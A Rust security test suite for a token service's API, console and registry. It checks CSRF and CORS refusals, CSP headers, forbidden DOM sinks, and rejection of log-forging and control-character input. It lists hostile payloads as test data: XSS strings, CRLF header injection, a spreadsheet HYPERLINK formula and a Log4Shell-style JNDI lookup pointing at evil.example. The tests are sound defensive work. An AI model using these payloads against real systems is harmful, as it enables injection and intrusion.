//! Attacks by way of somebody's browser, terminal or log.

use crate::harness::{self, Harness, send};
use http::{Method, Request};
use http_body_util::Full;
use serde_json::json;

#[tokio::test]
async fn a_page_of_another_site_can_do_nothing_in_somebodys_name() {
    let stack = Harness::start_with(&[]).await;
    let api = stack.stack.ports().api;
    let alice = stack.session("alice").await;
    // Whoever has signed in has no cookie that a browser would send along.
    for (method, path) in [(Method::GET, "/"), (Method::GET, "/console/app.js"), (Method::GET, "/tokens")] {
        let reply = stack.api(method, path, Some(&alice), None).await;
        assert_eq!(reply.header("set-cookie"), None, "{path}");
    }
    // What a form can send without asking first.
    let wish = json!({"name": "t", "scopes": ["write"]}).to_string();
    for content_type in ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"] {
        let request =
            Request::post("/tokens").header("content-type", content_type).header("origin", "https://evil.example");
        let request = request.header("cookie", format!("session={alice}")).body(Full::from(wish.clone())).unwrap();
        assert_eq!(send(api, request).await.status, 401, "{content_type}");
    }
    assert_eq!(stack.items().await.len(), 0);
    // No other origin may read an answer, or ask whether it may send a session.
    let own = format!("http://127.0.0.1:{api}");
    for origin in [
        "https://evil.example",
        "null",
        "https://none.invalid.evil.example",
        "http://none.invalid",
        &own.replace("http", "https"),
        "*",
    ] {
        for request in
            [Request::get("/tokens"), Request::options("/tokens").header("access-control-request-method", "POST")]
        {
            let request = request.header("origin", origin).header("authorization", format!("Bearer {alice}"));
            let reply = send(api, request.body(Full::default()).unwrap()).await;
            assert!(
                !reply.headers.keys().any(|name| name.as_str().starts_with("access-control")),
                "{origin}: {reply:?}"
            );
        }
    }
}

#[tokio::test]
async fn the_console_is_in_no_frame_runs_no_script_but_its_own_and_sends_nothing_elsewhere() {
    let stack = Harness::start().await;
    for path in ["/", "/console/style.css", "/console/app.js", "/console/nothing"] {
        let reply = stack.api(Method::GET, path, None, None).await;
        let policy = reply.header("content-security-policy").unwrap();
        let directives: Vec<_> = policy.split(';').map(str::trim).collect();
        for directive in [
            "default-src 'none'",
            "script-src 'self'",
            "style-src 'self'",
            "form-action 'none'",
            "base-uri 'none'",
            "frame-ancestors 'none'",
            "require-trusted-types-for 'script'",
        ] {
            assert!(directives.contains(&directive), "{path}: {policy}");
        }
        assert!(!policy.contains("unsafe") && !policy.contains('*') && !policy.contains("data:"), "{path}: {policy}");
        assert_eq!(reply.header("x-content-type-options"), Some("nosniff"), "{path}");
        assert_eq!(reply.header("referrer-policy"), Some("no-referrer"), "{path}");
        assert_eq!(reply.header("cross-origin-opener-policy"), Some("same-origin"), "{path}");
    }
    // What comes from people goes into the page as text alone: no module has a way to do otherwise.
    let page = stack.api(Method::GET, "/", None, None).await.text();
    assert!(!page.contains("<script>") && !page.contains(" on") && !page.contains("javascript:"), "{page}");
    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../functions/console/page");
    for file in std::fs::read_dir(folder).unwrap().map(|file| file.unwrap().path()) {
        let text = std::fs::read_to_string(&file).unwrap();
        for way in [
            "innerHTML",
            "outerHTML",
            "insertAdjacentHTML",
            "document.write",
            "eval(",
            "new Function",
            "srcdoc",
            "DOMParser",
            "setHTML",
        ] {
            assert!(!text.contains(way), "{}: {way}", file.display());
        }
    }
}

/// Names that would be more than a name to a header, a terminal, a page or a spreadsheet.
const NAMES: [&str; 7] = [
    "<img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>",
    "{{config}}",
    "=HYPERLINK(\"https://evil.example\")",
    "%0d%0aSet-Cookie: a=b",
    "$context.identity.sourceIp \\\"}",
    "${jndi:ldap://evil.example/a}",
];

#[tokio::test]
async fn no_name_or_subject_splits_an_answer_or_becomes_more_than_text() {
    let stack = Harness::start().await;
    let alice = stack.session("alice").await;
    for name in [
        "a\r\nSet-Cookie: a=b",
        "a\nb",
        "a\u{0}b",
        "a\u{1b}[31mb",
        "a\u{85}b",
        "a\u{2028}b",
        "a\u{202e}b",
        "a\u{9b}1mb",
    ] {
        let wish = json!({"name": name, "scopes": ["read"]});
        let reply = stack.api(Method::POST, "/tokens", Some(&alice), Some(&wish)).await;
        assert_eq!(reply.status, 400, "{name:?}");
        assert_eq!(reply.header("set-cookie"), None);
    }
    for name in NAMES {
        // And as the name of a person, which a form of the issuer's takes as it is.
        let subject = name.replace('%', "%25").replace('&', "%26").replace('+', "%2B");
        let token = stack.token(&subject, json!({"name": name, "scopes": ["read:npm/*"]})).await;
        let passed = stack.registry(Method::GET, "/npm/x", Some(&token.text)).await;
        assert_eq!(passed.status, 200, "{name}: {passed:?}");
        let told = passed.json["context"].as_object().unwrap();
        for (field, value) in told {
            let value = value.as_str().unwrap();
            let plain = value.bytes().all(|b| b.is_ascii_alphanumeric() || b"-._~@+%:/* ".contains(&b));
            assert!(plain, "{field} for the registry: {value}");
        }
        let refused = stack.registry(Method::PUT, "/npm/x", Some(&token.text)).await;
        assert_eq!((refused.status, refused.header("set-cookie")), (403, None), "{name}");
        let message = refused.json["message"].as_str().unwrap();
        assert!(!message.contains(['"', '\\', '<', '>', '\r', '\n']), "{message}");
        assert_eq!(refused.json["errors"][0]["message"], message, "the body is whole");
        assert_eq!(refused.header("content-type"), Some("application/json"));
    }
    let listed = stack
        .api(Method::GET, "/tokens", Some(&stack.session("=HYPERLINK(\"https://evil.example\")").await), None)
        .await;
    assert_eq!(listed.json["tokens"][0]["name"], NAMES[3], "kept as it is");
    assert_eq!(listed.header("content-type"), Some("application/json"));
}

#[tokio::test]
async fn nothing_that_is_sent_makes_a_line_of_the_log_look_like_two_or_like_another() {
    let stack = Harness::start().await;
    let token = stack.token("alice", json!({"name": "t", "scopes": ["read"]})).await.text;
    let ports = stack.stack.ports();
    let forged = "2027-01-05T12:00:00Z  INFO latchkey::decision: forged";
    for port in [ports.api, ports.registry] {
        for (target, user_agent) in [
            ("/x%0a2027-01-05T12:00:00Z%20%20INFO%20forged", "curl"),
            ("/x%0d%0aforged", "curl"),
            ("/x\u{9b}31mforged", "curl"),
            ("/x\u{85}forged", "curl"),
            ("/x\u{2028}forged", "curl\u{9b}31m"),
            ("/x", forged),
            ("/x", "curl/\u{85}forged"),
        ] {
            let request = format!(
                "GET {target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: {token}\r\nUser-Agent: {user_agent}\r\n\r\n"
            );
            harness::raw(port, request.as_bytes()).await;
        }
    }
    stack.stack.settled().await;
    let log = harness::log();
    for line in log.lines().filter(|line| line.contains("forged")) {
        assert!(line.contains(" local::") || line.contains(" latchkey::"), "{line:?}");
        assert!(!line.starts_with(forged), "{line:?}");
    }
    let raw = ['\u{1b}', '\u{9b}', '\u{85}', '\u{2028}', '\u{0}', '\r'];
    let of_this_test = |line: &&str| line.contains("forged");
    assert!(!log.lines().filter(of_this_test).any(|line| line.contains(raw)), "no control character");
}
